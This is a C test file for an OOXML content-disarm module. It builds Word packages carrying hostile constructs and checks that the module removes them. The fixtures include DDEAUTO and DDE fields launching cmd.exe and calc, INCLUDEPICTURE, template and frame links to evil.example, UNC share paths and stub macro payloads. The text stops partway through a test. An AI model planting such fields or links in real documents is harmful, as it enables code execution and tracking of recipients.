/*
 * test_cdr_ooxml.c - the OOXML CDR module (cdr/cdr_ooxml.c).
 *
 * Hostile packages are generated here with libarchive's zip writer, one
 * construct after another: VBA projects, customUI, DDE/DDEAUTO and
 * INCLUDE fields (split, nested, simple, spanning paragraphs), attached
 * templates, frames, mail merge sources, altChunk and subDoc, OLE objects
 * embedded and linked, ActiveX, external pictures, XLM macro sheets and
 * Auto_Open names, DDE external links, connections, query tables, shape
 * macros, PowerPoint program and macro actions, media.  Each rebuilt
 * package is read back with libarchive, every XML part parsed with
 * libxml2, the removed constructs searched for in every member's bytes,
 * the remaining external relationships checked against the link policy,
 * and the text of every part (w:t, a:t, t) compared with the input's.
 * Malformed, truncated, encrypted and oversized inputs must be refused.
 * The public samples in ../shared/corpus-external are run when present.
 */
#include <locale.h>
#include <string.h>

#include <archive.h>
#include <archive_entry.h>
#include <libxml/parser.h>
#include <libxml/tree.h>

#include "cdr/mg_cdr.h"

extern const struct mg_cdr_module mg_cdr_ooxml;

#define XML_DECL \
	"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
#define W_NS "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
#define X_NS "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
#define P_NS "http://schemas.openxmlformats.org/presentationml/2006/main"
#define A_NS "http://schemas.openxmlformats.org/drawingml/2006/main"
#define R_NS \
	"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
#define MC_NS "http://schemas.openxmlformats.org/markup-compatibility/2006"
#define REL(x)                                                   \
	"http://schemas.openxmlformats.org/officeDocument/2006/" \
	"relationships/" x
#define MSREL(x) "http://schemas.microsoft.com/office/2006/relationships/" x
#define OXD "application/vnd.openxmlformats-officedocument."

#define CT_OPEN                                                        \
	XML_DECL                                                       \
	"<Types xmlns=\"http://schemas.openxmlformats.org/package/"    \
	"2006/content-types\"><Default Extension=\"rels\" "            \
	"ContentType=\"application/"                                   \
	"vnd.openxmlformats-package.relationships+xml\"/>"             \
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>" \
	"<Default Extension=\"png\" ContentType=\"image/png\"/>"       \
	"<Override PartName=\"/docProps/core.xml\" "                   \
	"ContentType=\"application/"                                   \
	"vnd.openxmlformats-package.core-properties+xml\"/>"
#define OVR(name, ct) "<Override PartName=\"" name "\" ContentType=\"" ct "\"/>"
#define DEF(ext, ct) "<Default Extension=\"" ext "\" ContentType=\"" ct "\"/>"
#define CT_CLOSE "</Types>"
#define RELS_OPEN                                                            \
	XML_DECL "<Relationships xmlns=\"http://schemas.openxmlformats.org/" \
	         "package/2006/relationships\">"
#define RL(id, type, target)                                                   \
	"<Relationship Id=\"" id "\" Type=\"" type "\" Target=\"" target "\"/" \
	">"
#define XRL(id, type, target)                                            \
	"<Relationship Id=\"" id "\" Type=\"" type "\" Target=\"" target \
	"\" TargetMode=\"External\"/>"
#define RELS_CLOSE "</Relationships>"
#define PKG_RELS(main)                                               \
	RELS_OPEN RL("rId1", REL("officeDocument"), main) RL("rId2", \
	    "http://schemas.openxmlformats.org/package/2006/"        \
	    "relationships/metadata/core-properties",                \
	    "docProps/core.xml") RELS_CLOSE
#define CORE                                                           \
	XML_DECL                                                       \
	"<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats." \
	"org/package/2006/metadata/core-properties\" "                 \
	"xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>"     \
	"Title text</dc:title></cp:coreProperties>"

#define DOC_OPEN                                                           \
	XML_DECL "<w:document xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS        \
	         "\" xmlns:a=\"" A_NS "\" xmlns:mc=\"" MC_NS               \
	         "\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" " \
	         "xmlns:v=\"urn:schemas-microsoft-com:vml\"><w:body>"
#define DOC_CLOSE "</w:body></w:document>"
#define P(x) "<w:p>" x "</w:p>"
#define RUN(t) "<w:r><w:t xml:space=\"preserve\">" t "</w:t></w:r>"
#define BEGIN "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
#define INSTR(t) \
	"<w:r><w:instrText xml:space=\"preserve\">" t "</w:instrText></w:r>"
#define SEP "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
#define END "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"

#define DOCX_CT(extra)                    \
	CT_OPEN OVR("/word/document.xml", \
	    OXD "wordprocessingml.document.main+xml") extra CT_CLOSE
#define DOCM_CT(extra)                                                \
	CT_OPEN OVR("/word/document.xml",                             \
	    "application/vnd.ms-word.document.macroEnabled.main+xml") \
	    extra CT_CLOSE

#include "cdr_zip_fixture.h"

/* ---- helpers ---- */

static xmlDoc *
parse(GBytes *b)
{
	gsize len;
	const char *d = g_bytes_get_data(b, &len);
	xmlDoc *doc = xmlReadMemory(d, (int)len, NULL, NULL,
	    XML_PARSE_NONET | XML_PARSE_NOERROR | XML_PARSE_NOWARNING);

	if (doc != NULL && doc->intSubset != NULL) {
		xmlFreeDoc(doc);
		return NULL;
	}
	return doc;
}

static gboolean
is_xml_name(const char *name)
{
	return g_str_has_suffix(name, ".xml") ||
	       g_str_has_suffix(name, ".rels") ||
	       g_str_has_suffix(name, ".vml");
}

static void
collect_t(xmlNode *n, GString *out)
{
	xmlNode *c;

	for (c = n; c != NULL; c = c->next) {
		if (c->type != XML_ELEMENT_NODE)
			continue;
		if (strcmp((const char *)c->name, "t") == 0) {
			xmlChar *v = xmlNodeGetContent(c);

			g_string_append(out, (const char *)v);
			g_string_append_c(out, '|');
			xmlFree(v);
			continue;
		}
		collect_t(c->children, out);
	}
}

/* The text a reader sees in one part: every w:t, a:t and t, in order. */
static char *
text_of(GBytes *b)
{
	xmlDoc *doc = parse(b);
	GString *s = g_string_new(NULL);

	if (doc != NULL) {
		collect_t(xmlDocGetRootElement(doc), s);
		xmlFreeDoc(doc);
	}
	return g_string_free(s, FALSE);
}

/* Every XML member of `out` parses, without a DOCTYPE; every one that
 * also was in `in` has the same text. */
static void
check_parts(GHashTable *in, GHashTable *out)
{
	GHashTableIter it;
	gpointer k, v;

	g_assert_true(g_hash_table_contains(out, "[Content_Types].xml"));
	g_assert_true(g_hash_table_contains(out, "_rels/.rels"));
	g_hash_table_iter_init(&it, out);
	while (g_hash_table_iter_next(&it, &k, &v)) {
		GBytes *orig = in != NULL ? g_hash_table_lookup(in, k) : NULL;
		xmlDoc *doc;

		if (!is_xml_name(k))
			continue;
		doc = parse(v);
		if (doc == NULL)
			g_error("%s does not parse", (char *)k);
		xmlFreeDoc(doc);
		if (orig != NULL) {
			g_autofree char *a = text_of(orig);
			g_autofree char *b = text_of(v);

			if (strcmp(a, b) != 0)
				g_error("text of %s changed:\n%s\n%s",
				    (char *)k, a, b);
		}
	}
}

/* The member holding `needle` (ASCII case-insensitive), or NULL. */
static const char *
find_in(GHashTable *t, const char *needle)
{
	GHashTableIter it;
	gpointer k, v;
	g_autofree char *low = g_ascii_strdown(needle, -1);

	g_hash_table_iter_init(&it, t);
	while (g_hash_table_iter_next(&it, &k, &v)) {
		gsize len;
		const char *d = g_bytes_get_data(v, &len);
		g_autofree char *s =
		    g_ascii_strdown(d != NULL ? d : "", (gssize)len);

		if (strstr(s, low) != NULL || strstr(k, needle) != NULL)
			return k;
	}
	return NULL;
}

static void
assert_absent(GHashTable *t, const char *const *needles)
{
	for (; *needles != NULL; needles++) {
		const char *where = find_in(t, *needles);

		if (where != NULL)
			g_error("\"%s\" left in %s", *needles, where);
	}
}

/* Every relationship left with TargetMode="External" is a hyperlink to
 * http, https or mailto (and there is none when links are not kept). */
static void
check_external(GHashTable *t, gboolean links)
{
	GHashTableIter it;
	gpointer k, v;

	g_hash_table_iter_init(&it, t);
	while (g_hash_table_iter_next(&it, &k, &v)) {
		xmlDoc *doc;
		xmlNode *c;

		if (!g_str_has_suffix(k, ".rels"))
			continue;
		doc = parse(v);
		g_assert_nonnull(doc);
		for (c = xmlDocGetRootElement(doc)->children; c != NULL;
		     c = c->next) {
			xmlChar *mode, *type, *target;

			if (c->type != XML_ELEMENT_NODE)
				continue;
			mode = xmlGetProp(c, (const xmlChar *)"TargetMode");
			type = xmlGetProp(c, (const xmlChar *)"Type");
			target = xmlGetProp(c, (const xmlChar *)"Target");
			if (mode != NULL) {
				g_assert_true(links);
				g_assert_true(g_str_has_suffix(
				    (const char *)type, "/hyperlink"));
				g_assert_true(
				    g_str_has_prefix((char *)target, "http:") ||
				    g_str_has_prefix(
				        (char *)target, "https:") ||
				    g_str_has_prefix(
				        (char *)target, "mailto:"));
			}
			xmlFree(mode);
			xmlFree(type);
			xmlFree(target);
		}
		xmlFreeDoc(doc);
	}
}

static gboolean
has_id(const struct mg_cdr_result *r, const char *id)
{
	guint i;

	for (i = 0; i < r->removed->len; i++)
		if (strcmp(g_ptr_array_index(r->removed, i), id) == 0)
			return TRUE;
	return FALSE;
}

static void
run(struct mg_cdr_ctx *ctx, GBytes *in, struct mg_cdr_result *r)
{
	mg_cdr_result_init(r);
	g_assert_cmpint(mg_cdr_ooxml.rebuild(ctx, in, r), ==, MG_OK);
}

static void
ctx_init(struct mg_cdr_ctx *ctx, struct mg_limits *lim)
{
	memset(ctx, 0, sizeof(*ctx));
	memset(lim, 0, sizeof(*lim));
	ctx->limits = lim;
	ctx->keep_hyperlinks = TRUE;
	ctx->keep_metadata = TRUE; /* metadata: test_metadata */
}

static guint nested_calls;

static GBytes *
nested_accept(void *walk, const char *name, const char *type, GBytes *data,
    char **extension_r)
{
	nested_calls++;
	g_assert_nonnull(name);
	return g_bytes_ref(data);
}

static GBytes *
nested_refuse(void *walk, const char *name, const char *type, GBytes *data,
    char **extension_r)
{
	nested_calls++;
	return NULL;
}

static GBytes *
nested_to_jpeg(void *walk, const char *name, const char *type, GBytes *data,
    char **extension_r)
{
	nested_calls++;
	return g_bytes_new_static(jpeg, sizeof(jpeg));
}

static GBytes *
nested_garbage(void *walk, const char *name, const char *type, GBytes *data,
    char **extension_r)
{
	return g_bytes_new_static("not an image", 12);
}

/* Rebuild `in`, expect REFUSED for `reason` (MG_REASON_NONE: any). */
static void
expect_refused(struct mg_cdr_ctx *ctx, GBytes *in, enum mg_reason reason)
{
	struct mg_cdr_result r;

	run(ctx, in, &r);
	if (r.outcome != MG_CDR_REFUSED)
		g_error("expected a refusal, got outcome %d", r.outcome);
	if (reason != MG_REASON_NONE && r.reason != reason)
		g_error("expected reason %s, got %s (%s)", mg_reason_id(reason),
		    mg_reason_id(r.reason), r.detail);
	g_assert_nonnull(r.detail);
	g_assert_null(r.data);
	g_assert_cmpuint(r.removed->len, ==, 0);
	mg_cdr_result_clear(&r);
}

/* Rebuild `in` again: what we produce needs no further change. */
static void
expect_stable(struct mg_cdr_ctx *ctx, GBytes *out)
{
	struct mg_cdr_result r;

	run(ctx, out, &r);
	g_assert_true(
	    r.outcome == MG_CDR_VERIFIED || r.outcome == MG_CDR_REBUILT);
	g_assert_cmpuint(r.removed->len, ==, 0);
	mg_cdr_result_clear(&r);
}

static const char *const hostile[] = {"vbaProject", "vbaData", "DDEAUTO",
    "macroEnabled", "activeX", "oleObject", "attachedTemplate", "altChunk",
    "macrosheets", "ddeLink", "customUI", "externalLink", "Auto_Open", NULL};

/* ---- a clean document ---- */

/* clang-format off */
static const char clean_doc[] = DOC_OPEN
    P(RUN("Hello, clean world."))
    P("<w:hyperlink r:id=\"rId3\">" RUN("A web link") "</w:hyperlink>")
    P(BEGIN INSTR(" PAGE ") SEP RUN("1") END)
    P("<w:r><w:drawing><a:blip r:embed=\"rId4\"/></w:drawing></w:r>")
    DOC_CLOSE;
static const char clean_rels[] = RELS_OPEN
    RL("rId1", REL("styles"), "styles.xml")
    XRL("rId3", REL("hyperlink"), "https://example.org/")
    RL("rId4", REL("image"), "media/image1.png")
    RELS_CLOSE;
static const char styles[] =
    XML_DECL "<w:styles xmlns:w=\"" W_NS "\"><w:docDefaults/></w:styles>";
/* clang-format on */

static GBytes *
clean_docx(void)
{
	const struct member m[] = {
	    {"[Content_Types].xml",
	        DOCX_CT(
	            OVR("/word/styles.xml", OXD "wordprocessingml.styles+xml")),
	        -1},
	    {"_rels/.rels", PKG_RELS("word/document.xml"), -1},
	    {"word/document.xml", clean_doc, -1},
	    {"word/_rels/document.xml.rels", clean_rels, -1},
	    {"word/styles.xml", styles, -1},
	    {"word/media/image1.png", png, sizeof(png)},
	    {"docProps/core.xml", CORE, -1},
	};

	return zip_build(m, G_N_ELEMENTS(m));
}

/* [cdr] metadata = strip: document properties are left out (and the
 * result is stable); keep: the clean package is verified as it is. */
static void
test_metadata(void)
{
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	g_autoptr(GBytes) in = clean_docx();
	GHashTable *to;

	ctx_init(&ctx, &lim);
	ctx.nested = nested_accept;
	ctx.keep_metadata = FALSE;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_true(has_id(&r, MG_CDR_RM_METADATA));
	g_assert_cmpuint(r.removed->len, ==, 1);
	to = zip_read(r.data, NULL);
	g_assert_false(g_hash_table_contains(to, "docProps/core.xml"));
	g_assert_null(find_in(to, "core-properties"));
	expect_stable(&ctx, r.data);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
}

static void
test_clean_verified(void)
{
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GBytes *in = clean_docx();

	ctx_init(&ctx, &lim);
	ctx.nested = nested_accept;
	nested_calls = 0;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_VERIFIED);
	g_assert_cmpuint(r.removed->len, ==, 0);
	g_assert_null(r.data);
	g_assert_cmpuint(nested_calls, ==, 1);
	mg_cdr_result_clear(&r);

	/* Without a walk to hand it to, the picture is left out. */
	ctx.nested = NULL;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_true(has_id(&r, MG_CDR_RM_EMBEDDED));
	g_assert_cmpuint(r.removed->len, ==, 1);
	{
		GHashTable *ti = zip_read(in, NULL),
		           *to = zip_read(r.data, NULL);

		g_assert_false(
		    g_hash_table_contains(to, "word/media/image1.png"));
		g_assert_null(find_in(to, "rId4"));
		check_parts(ti, to);
		check_external(to, TRUE);
		expect_stable(&ctx, r.data);
		g_hash_table_unref(ti);
		g_hash_table_unref(to);
	}
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
}

/* ---- VBA, customUI, macro-enabled types ---- */

static void
test_docm_vba(void)
{
	const struct member m[] = {
	    {"[Content_Types].xml",
	        DOCM_CT(DEF("bin", "application/vnd.ms-office.vbaProject") OVR(
	            "/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
	                OVR("/word/customizations.xml",
	                    "application/vnd.ms-word.keyMapCustomizations+"
	                    "xml") OVR("/word/vbaProjectSignature.bin",
	                    "application/vnd.ms-office.vbaProjectSignature")),
	        -1},
	    {"_rels/.rels",
	        RELS_OPEN RL("rId1", REL("officeDocument"), "word/document.xml")
	            RL("rId2",
	                "http://schemas.openxmlformats.org/package/2006/"
	                "relationships/metadata/core-properties",
	                "docProps/core.xml") RL("rId3",
	                "http://schemas.microsoft.com/office/2007/"
	                "relationships/ui/extensibility",
	                "customUI/customUI14.xml") RELS_CLOSE,
	        -1},
	    {"word/document.xml",
	        DOC_OPEN P(RUN("Macro document text.")) DOC_CLOSE, -1},
	    {"word/_rels/document.xml.rels",
	        RELS_OPEN RL("rId1", MSREL("vbaProject"), "vbaProject.bin") RL(
	            "rId2", MSREL("keyMapCustomizations"), "customizations.xml")
	            RELS_CLOSE,
	        -1},
	    {"word/vbaProject.bin", "VBA-PROJECT-PAYLOAD Sub AutoOpen()", -1},
	    {"word/_rels/vbaProject.bin.rels",
	        RELS_OPEN RL("rId1", MSREL("wordVbaData"), "vbaData.xml")
	            RELS_CLOSE,
	        -1},
	    {"word/vbaData.xml",
	        XML_DECL "<wne:vbaSuppData xmlns:wne=\"http://schemas."
	                 "microsoft.com/office/word/2006/wordml\"/>",
	        -1},
	    {"word/customizations.xml",
	        XML_DECL "<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/"
	                 "office/word/2006/wordml\"><wne:keymaps><wne:keymap "
	                 "wne:kcmPrimary=\"0441\"><wne:macro wne:macroName="
	                 "\"PROJECT.EVIL\"/></wne:keymap></wne:keymaps>"
	                 "</wne:tcg>",
	        -1},
	    {"word/vbaProjectSignature.bin", "SIGNATURE", -1},
	    {"customUI/customUI14.xml",
	        XML_DECL "<customUI xmlns=\"http://schemas.microsoft.com/"
	                 "office/2009/07/customui\" onLoad=\"EvilOnLoad\"/>",
	        -1},
	    {"customUI/_rels/customUI14.xml.rels",
	        RELS_OPEN RL("rId1", REL("image"), "images/icon.png")
	            RELS_CLOSE,
	        -1},
	    {"customUI/images/icon.png", png, sizeof(png)},
	    {"docProps/core.xml", CORE, -1},
	};
	static const char *const gone[] = {"vbaProject", "vbaData",
	    "macroEnabled", "customUI", "customizations", "VBA-PROJECT",
	    "EvilOnLoad", "PROJECT.EVIL", "SIGNATURE", "icon.png", NULL};
	GBytes *in = zip_build(m, G_N_ELEMENTS(m));
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GHashTable *ti, *to;

	ctx_init(&ctx, &lim);
	ctx.nested = nested_accept;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_cmpstr(r.extension, ==, "docx");
	g_assert_cmpstr(r.mime_type, ==, OXD "wordprocessingml.document");
	g_assert_true(has_id(&r, MG_CDR_RM_VBA));
	g_assert_true(has_id(&r, MG_CDR_RM_CUSTOMUI));
	ti = zip_read(in, NULL);
	to = zip_read(r.data, NULL);
	check_parts(ti, to);
	assert_absent(to, gone);
	assert_absent(to, hostile);
	/* Only these are left: the document, its core properties, the
	 * package's own parts. */
	g_assert_cmpuint(g_hash_table_size(to), ==, 4);
	g_assert_true(g_hash_table_contains(to, "word/document.xml"));
	g_assert_true(g_hash_table_contains(to, "docProps/core.xml"));
	expect_stable(&ctx, r.data);
	g_hash_table_unref(ti);
	g_hash_table_unref(to);
	mg_cdr_result_clear(&r);
	g_bytes_unref(in);
}

/* A macro-enabled type without macros: only the type changes. */
static void
test_macro_types(void)
{
	static const struct {
		const char *main, *ct, *ext, *mime;
	} cases[] = {
	    {"word/document.xml",
	        "application/vnd.ms-word.document.macroEnabled.main+xml",
	        "docx", OXD "wordprocessingml.document"},
	    {"word/document.xml",
	        "application/vnd.ms-word.template.macroEnabledTemplate.main+"
	        "xml",
	        "dotx", OXD "wordprocessingml.template"},
	    {"xl/workbook.xml",
	        "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xlsx",
	        OXD "spreadsheetml.sheet"},
	    {"xl/workbook.xml",
	        "application/vnd.ms-excel.template.macroEnabled.main+xml",
	        "xltx", OXD "spreadsheetml.template"},
	    {"ppt/presentation.xml",
	        "application/vnd.ms-powerpoint.presentation.macroEnabled.main+"
	        "xml",
	        "pptx", OXD "presentationml.presentation"},
	    {"ppt/presentation.xml",
	        "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml",
	        "ppsx", OXD "presentationml.slideshow"},
	    {"ppt/presentation.xml",
	        "application/vnd.ms-powerpoint.template.macroEnabled.main+xml",
	        "potx", OXD "presentationml.template"},
	};
	static const char *const bodies[] = {
	    DOC_OPEN P(RUN("Body")) DOC_CLOSE,
	    XML_DECL "<workbook xmlns=\"" X_NS "\" xmlns:r=\"" R_NS
	             "\"><sheets/></workbook>",
	    XML_DECL "<p:presentation xmlns:p=\"" P_NS "\" xmlns:r=\"" R_NS
	             "\"/>",
	};
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	gsize i;

	ctx_init(&ctx, &lim);
	for (i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autofree char *ct = g_strdup_printf(CT_OPEN
		    "<Override PartName=\"/%s\" ContentType=\"%s\"/>" CT_CLOSE,
		    cases[i].main, cases[i].ct);
		g_autofree char *rels = g_strdup_printf(RELS_OPEN
		    "<Relationship Id=\"rId1\" Type=\"%s\" "
		    "Target=\"%s\"/>" RELS_CLOSE,
		    REL("officeDocument"), cases[i].main);
		const char *body = bodies[cases[i].main[0] == 'w'   ? 0
		                          : cases[i].main[0] == 'x' ? 1
		                                                    : 2];
		const struct member m[] = {
		    {"[Content_Types].xml", ct, -1},
		    {"_rels/.rels", rels, -1},
		    {cases[i].main, body, -1},
		};
		GBytes *in = zip_build(m, G_N_ELEMENTS(m));
		struct mg_cdr_result r;
		GHashTable *ti, *to;

		run(&ctx, in, &r);
		g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
		g_assert_cmpstr(r.extension, ==, cases[i].ext);
		g_assert_cmpstr(r.mime_type, ==, cases[i].mime);
		g_assert_cmpuint(r.removed->len, ==, 0);
		ti = zip_read(in, NULL);
		to = zip_read(r.data, NULL);
		check_parts(ti, to);
		g_assert_null(find_in(to, "macroEnabled"));
		g_assert_nonnull(find_in(to, cases[i].main));
		expect_stable(&ctx, r.data);
		g_hash_table_unref(ti);
		g_hash_table_unref(to);
		mg_cdr_result_clear(&r);
		g_bytes_unref(in);
	}
}

/* ---- fields, links, objects in Word ---- */

/* clang-format off */
static const char hostile_doc[] = DOC_OPEN
    P(RUN("Intro text."))
    /* DDEAUTO, then the same split over two runs. */
    P(BEGIN INSTR("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
		  "\"/k calc.exe\"")
      SEP RUN("Result one") END)
    P(BEGIN INSTR("DD") INSTR("EAUTO c:\\\\x.exe") SEP RUN("Split result") END)
    /* Simple fields. */
    P("<w:fldSimple w:instr=\" DDE cmd.exe &quot;/c calc&quot; \">"
      RUN("Simple result") "</w:fldSimple>")
    P("<w:fldSimple w:instr=\" INCLUDEPICTURE "
      "&quot;http://evil.example/x.png&quot; \">"
      RUN("Picture result") "</w:fldSimple>")
    /* INCLUDETEXT; a field typed by a nested field; a field over two
     * paragraphs, in lower case. */
    P(BEGIN INSTR(" INCLUDETEXT \"\\\\\\\\evil\\\\share\\\\a.docx\" ")
      SEP RUN("Included text") END)
    P(BEGIN BEGIN INSTR(" QUOTE 68 68 69 ") END INSTR(" cmd ")
      SEP RUN("Nested result") END)
    P(BEGIN INSTR(" ddeauto a "))
    P(INSTR(" b ") SEP RUN("Span result") END)
    /* Field code outside any field. */
    P("<w:r><w:instrText>DDEAUTO stray</w:instrText></w:r>"
      RUN("After stray"))
    /* Harmless fields stay; a link to a UNC path does not. */
    P(BEGIN INSTR(" PAGE ") SEP RUN("7") END)
    P(BEGIN INSTR(" HYPERLINK \"https://example.org/f\" ")
      SEP RUN("Field link") END)
    P(BEGIN INSTR(" HYPERLINK \"\\\\\\\\evil\\\\share\" ")
      SEP RUN("UNC link") END)
    /* Hyperlinks: web, file, mail. */
    P("<w:hyperlink r:id=\"rIdH1\">" RUN("Web link") "</w:hyperlink>"
      "<w:hyperlink r:id=\"rIdH2\">" RUN("File link") "</w:hyperlink>"
      "<w:hyperlink r:id=\"rIdH3\">" RUN("Mail link") "</w:hyperlink>")
    /* An embedded OLE object with its preview, a linked one, an ActiveX
     * control, an external picture. */
    P("<w:r><w:object><v:shape id=\"s1\"><v:imagedata r:id=\"rIdImg\"/>"
      "</v:shape><o:OLEObject Type=\"Embed\" ProgID=\"Package\" "
      "ShapeID=\"s1\" r:id=\"rIdOle\"/></w:object></w:r>")
    P("<w:r><w:object><o:OLEObject Type=\"Link\" "
      "ProgID=\"Word.Document.8\" r:id=\"rIdOleLink\"/></w:object></w:r>")
    P("<w:r><w:object><w:control r:id=\"rIdAx\" "
      "w:name=\"CheckBox1\"/></w:object></w:r>")
    P("<w:r><w:drawing><a:blip r:link=\"rIdExtImg\"/></w:drawing></w:r>")
    /* A form field with an entry macro. */
    P("<w:r><w:fldChar w:fldCharType=\"begin\"><w:ffData><w:name "
      "w:val=\"T1\"/><w:entryMacro w:val=\"Evil\"/></w:ffData></w:fldChar>"
      "</w:r>" INSTR(" FORMTEXT ") SEP RUN("Form result") END)
    /* altChunk and subDoc. */
    "<w:altChunk r:id=\"rIdChunk\"/>"
    P("<w:subDoc r:id=\"rIdSub\"/>")
    /* A field left open at the end of the part. */
    P(BEGIN INSTR(" INCLUDETEXT x ") SEP RUN("Tail result"))
    DOC_CLOSE;

static const char hostile_rels[] = RELS_OPEN
    RL("rIdSt", REL("styles"), "styles.xml")
    RL("rIdSet", REL("settings"), "settings.xml")
    RL("rIdWeb", REL("webSettings"), "webSettings.xml")
    XRL("rIdH1", REL("hyperlink"), "http://example.org/")
    XRL("rIdH2", REL("hyperlink"), "file:///C:/secret.doc")
    XRL("rIdH3", REL("hyperlink"), "mailto:someone@example.org")
    RL("rIdImg", REL("image"), "media/image1.png")
    RL("rIdOle", REL("oleObject"), "embeddings/oleObject1.bin")
    XRL("rIdOleLink", REL("oleObject"), "mhtml:http://evil.example/x.mht!x")
    RL("rIdAx", REL("control"), "activeX/activeX1.xml")
    RL("rIdChunk", REL("aFChunk"), "afchunk.mht")
    XRL("rIdSub", REL("subDocument"), "\\\\evil\\share\\sub.docx")
    XRL("rIdExtImg", REL("image"), "http://evil.example/track.png")
    RELS_CLOSE;

static const char hostile_types[] = DOCX_CT(
    OVR("/word/styles.xml", OXD "wordprocessingml.styles+xml")
    OVR("/word/settings.xml", OXD "wordprocessingml.settings+xml")
    OVR("/word/webSettings.xml", OXD "wordprocessingml.webSettings+xml")
    OVR("/word/embeddings/oleObject1.bin", OXD "oleObject")
    OVR("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    OVR("/word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")
    OVR("/word/afchunk.mht", "message/rfc822"));
/* clang-format on */

static GBytes *
hostile_docx(void)
{
	const struct member m[] = {
	    {"[Content_Types].xml", hostile_types, -1},
	    {"_rels/.rels", PKG_RELS("word/document.xml"), -1},
	    {"word/document.xml", hostile_doc, -1},
	    {"word/_rels/document.xml.rels", hostile_rels, -1},
	    {"word/styles.xml", styles, -1},
	    {"word/settings.xml",
	        XML_DECL "<w:settings xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS
	                 "\"><w:attachedTemplate r:id=\"rIdT\"/><w:mailMerge>"
	                 "<w:mainDocumentType w:val=\"formLetters\"/>"
	                 "<w:dataSource r:id=\"rIdDs\"/></w:mailMerge>"
	                 "<w:defaultTabStop w:val=\"720\"/></w:settings>",
	        -1},
	    {"word/_rels/settings.xml.rels",
	        RELS_OPEN XRL("rIdT", REL("attachedTemplate"),
	            "http://evil.example/t.dotm") XRL("rIdDs",
	            REL("mailMergeSource"), "file:///C:/data.xlsx") RELS_CLOSE,
	        -1},
	    {"word/webSettings.xml",
	        XML_DECL "<w:webSettings xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS
	                 "\"><w:frameset><w:frame><w:sourceFileName "
	                 "r:id=\"rIdF\"/></w:frame></w:frameset>"
	                 "</w:webSettings>",
	        -1},
	    {"word/_rels/webSettings.xml.rels",
	        RELS_OPEN XRL("rIdF", REL("frame"),
	            "http://evil.example/f.html") RELS_CLOSE,
	        -1},
	    {"word/media/image1.png", png, sizeof(png)},
	    {"word/embeddings/oleObject1.bin", "OLE-PAYLOAD", -1},
	    {"word/activeX/activeX1.xml",
	        XML_DECL "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/"
	                 "office/2006/activeX\" xmlns:r=\"" R_NS
	                 "\" ax:classid=\"{8BD21D40-EC42-11CE-9E0D-"
	                 "00AA006002F3}\" r:id=\"rId1\"/>",
	        -1},
	    {"word/activeX/_rels/activeX1.xml.rels",
	        RELS_OPEN RL("rId1", MSREL("activeXControlBinary"),
	            "activeX1.bin") RELS_CLOSE,
	        -1},
	    {"word/activeX/activeX1.bin", "AX-PAYLOAD", -1},
	    {"word/afchunk.mht", "MIME-Version: 1.0\r\n\r\nCHUNK-PAYLOAD", -1},
	    {"docProps/core.xml", CORE, -1},
	};

	return zip_build(m, G_N_ELEMENTS(m));
}

static void
test_word_hostile(void)
{
	static const char *const gone[] = {"DDE", "INCLUDETEXT",
	    "INCLUDEPICTURE", "QUOTE", "subDoc", "OLEObject", "w:control",
	    "frameset", "mailMerge", "entryMacro", "file:///", "mhtml:", "evil",
	    "PAYLOAD", "afchunk", "calc", NULL};
	GBytes *in = hostile_docx();
	struct mg_cdr_ctx ctx;
	struct mg_limits lim;
	struct mg_cdr_result r;
	GHashTable *ti, *to;
	GBytes *doc;
	g_autofree char *xml = NULL;

	ctx_init(&ctx, &lim);
	ctx.nested = nested_accept;
	run(&ctx, in, &r);
	g_assert_cmpint(r.outcome, ==, MG_CDR_REBUILT);
	g_assert_cmpstr(r.extension, ==, "docx");
	g_assert_true(has_id(&r, MG_CDR_RM_DDE));
	g_assert_true(has_id(&r, MG_CDR_RM_FIELDS));
	g_assert_true(has_id(&r, MG_CDR_RM_LINKS));
	g_assert_true(has_id(&r, MG_CDR_RM_OLE));
	g_assert_true(has_id(&r, MG_CDR_RM_ACTIVEX));
	g_assert_true(has_id(&r, MG_CDR_RM_EXTERNAL));
	g_assert_true(has_id(&r, MG_CDR_RM_TEMPLATE));
	g_assert_true(has_id(&r, MG_CDR_RM_DATACONN));
	g_assert_true(has_id(&r, MG_CDR_RM_VBA));
	g_assert_false(has_id(&r, MG_CDR_RM_EMBEDDED));
	ti = zip_read(in, NULL);
	to = zip_read(r.data, NULL);
	check_parts(ti, to);
	assert_absent(to, hostile);
	assert_absent(to, gone);
	check_external(to, TRUE);
	/* The preview picture of the OLE object stays. */
